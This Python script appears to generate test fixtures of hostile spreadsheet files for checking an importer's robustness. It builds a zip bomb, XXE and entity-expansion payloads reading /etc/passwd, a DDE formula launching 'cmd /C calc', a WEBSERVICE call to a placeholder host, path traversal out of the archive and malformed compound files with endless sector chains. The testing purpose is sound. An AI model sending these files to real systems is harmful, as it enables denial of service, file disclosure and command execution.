"""Makes files that look like workbooks and are made to do harm, one of each kind. Usage: hostile-workbooks.py FOLDER"""
import pathlib
import struct
import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
HEADINGS = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>'
                   for name in ["id", "title_en", "form", "status", "start_date", "partners"])
folder = pathlib.Path(sys.argv[1])
folder.mkdir(parents=True, exist_ok=True)


def parts(sheet, kind=SHEET, prolog=""):
    return {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}content-types"><Default Extension="xml" ContentType="application/xml"/>'
                               f'<Override PartName="/xl/workbook.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
                       'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="activities" sheetId="1" '
                           'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="rId1" '
                                      f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{prolog}<worksheet xmlns="{MAIN}"><sheetData>{sheet}</sheetData></worksheet>',
    }


def write(name, content):
    with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as package:
        for path, text in content.items():
            package.writestr(path, text)


def write_long(name, head, piece, times, tail):
    """A sheet of many gigabytes, which is never held in memory here either."""
    with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as package:
        for path, text in parts("").items():
            if path != "xl/worksheets/sheet1.xml":
                package.writestr(path, text)
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<worksheet xmlns="{MAIN}"><sheetData>{head}'.encode())
            for _ in range(times):
                sheet.write(piece)
            sheet.write(f"{tail}</sheetData></worksheet>".encode())


def container(name, entry):
    """The container of old office ([MS-CFB]): a header, a table of sectors and a directory with one entry."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<II", header, 44, 1, 1)
    struct.pack_into("<I", header, 56, 4096)
    struct.pack_into("<IIIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    header[76:512] = struct.pack("<I", 0) + b"\xff" * 432
    # The sector that holds the stream follows itself: a reader that walks the chain never comes to its end.
    table = struct.pack("<III", 0xFFFFFFFD, 0xFFFFFFFE, 2) + b"\xff" * 500
    directory = bytearray(512)
    for index, (label, kind, start, size) in enumerate([("Root Entry", 5, 0xFFFFFFFE, 0), (entry, 2, 2, 1 << 30)]):
        text = label.encode("utf-16-le")
        directory[index * 128:index * 128 + len(text)] = text
        struct.pack_into("<HBB", directory, index * 128 + 64, len(text) + 2, kind, 1)
        struct.pack_into("<III", directory, index * 128 + 68, 0xFFFFFFFF, 0xFFFFFFFF, 1 if index == 0 else 0xFFFFFFFF)
        struct.pack_into("<IQ", directory, index * 128 + 116, start, size)
    (folder / name).write_bytes(bytes(header) + table + bytes(directory) + b"\x09\x08\x10\x00" + b"\x00" * 508)


row = f"<row>{HEADINGS}</row>"
a = b"a" * (1 << 20)
write_long("zip-bomb.xlsx", row, b"<row/>" * (1 << 17), 2200, "")
write_long("long-text.xlsx", f'{row}<row><c t="inlineStr"><is><t>', a, 1536, "</t></is></c></row>")
write("row-index.xlsx", parts(row + '<row r="2000000000"><c><v>1</v></c></row>'))
write("column-index.xlsx", parts(row + '<row r="2"><c r="ZZZZZZ2"><v>1</v></c></row>'))
write("external-entity.xlsx", parts(row, prolog='<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'))
write("entity-expansion.xlsx", parts(row, prolog='<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'))
write("nesting.xlsx", parts("<row>" + "<c>" * 100000 + "</c>" * 100000 + "</row>"))
write("macros.xlsm", parts(row, kind=MACROS))
write("dde-formula.xlsx", parts(row + '<row><c t="inlineStr"><is><t>X-1</t></is></c><c t="str"><f>cmd|\' /C calc\'!A0</f>'
                                      '<v>=cmd|\' /C calc\'!A0</v></c><c t="str"><f>WEBSERVICE("http://x")</f></c></row>'))
container("password.xlsx", "EncryptedPackage")
container("endless-chain.xls", "Workbook")
with zipfile.ZipFile(folder / "same-part-twice.xlsx", "w") as package:
    for path, text in parts(row).items():
        package.writestr(path, text)
    package.writestr("XL/worksheets/sheet1.xml", "<worksheet/>")
outside = parts(row)
outside["xl/_rels/workbook.xml.rels"] = outside["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "../../../../etc/passwd")
outside["../../../../etc/passwd"] = "root"
write("path-outside.xlsx", outside)
